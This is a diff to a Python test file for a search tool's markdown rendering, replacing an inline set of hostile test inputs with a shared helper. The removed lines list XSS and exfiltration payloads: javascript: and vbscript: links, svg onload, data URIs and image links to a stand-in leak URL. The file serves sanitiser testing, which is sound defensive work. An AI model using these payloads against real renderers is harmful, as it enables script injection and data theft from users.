@@ -14,33 +14,13 @@ from megrez_search.ui.export import answer_markdown, conversation_markdown
 from megrez_search.ui.render import render_answer, render_reply
 
 from tests.support.html_tags import start_tags
+from tests.support.payloads import hostile_markdown
 
 SOURCE = "http://127.0.0.1:8765/library/functools.html"
 SOURCES = [{"n": 1, "url": SOURCE, "title": "functools", "snippet": "Caches calls."}]
 EVIL = "http://127.0.0.1:9/leak.png?secret"
 
-PAYLOADS = {
-    "escaped-backtick": f"a \\` ![x]({EVIL}) `",
-    "unequal-backtick-runs": f"``a` ![x]({EVIL}) ```",
-    "unequal-backtick-runs-closing": f"x `a`` ![x]({EVIL}) ``",
-    "reference-image": f"See ![x][img] and ![img].\n\n[img]: {EVIL}",
-    "reference-link": "[click][r] and [r].\n\n[r]: javascript:alert(1)",
-    "reference-citation": f"It caches [1].\n\n[1]: {EVIL}",
-    "html-entities": f"&#33;[x]({EVIL}) &#x21;&#91;x&#93;({EVIL}) [y](java&#115;cript:alert(1))",
-    "entity-encoded-tag": f"&lt;img src={EVIL}&gt; &amp;lt;img&amp;gt;",
-    "autolinks": f"<{EVIL}> <javascript:alert(1)> <mailto:a@b.c>",
-    "raw-html": f'<img src="{EVIL}"> <a href="javascript:alert(1)">x</a> <svg onload=alert(1)>',
-    "javascript-link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(document.cookie))",
-    "data-links": "[x](data:text/html;base64,PHNjcmlwdD4=) ![i](data:image/png;base64,iVBO)",
-    "javascript-link-forms": "[x](  javascript:alert(1) 'title') [x](\njavascript:alert(1)) "
-    "[a [nested] label](javascript:alert(1)) [x](<javascript:alert(1)>) "
-    "\\[escaped\\](javascript:alert(1))",
-    "vbscript-link": "[x](vbscript:msgbox(1))",
-    "nested-image-in-link": f"[![x]({EVIL})]({SOURCE}) [![y]({EVIL})]({EVIL})",
-    "citation-with-destination": f"[1]({EVIL}) [1]",
-    "link-to-another-site": f"[docs]({EVIL}) [top](#sources)",
-    "image-in-code-block": f"```\n![x]({EVIL})\n\n<img src={EVIL}>\n```",
-}
+PAYLOADS = hostile_markdown(EVIL, SOURCE)
 ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "div", "span"}
 
 
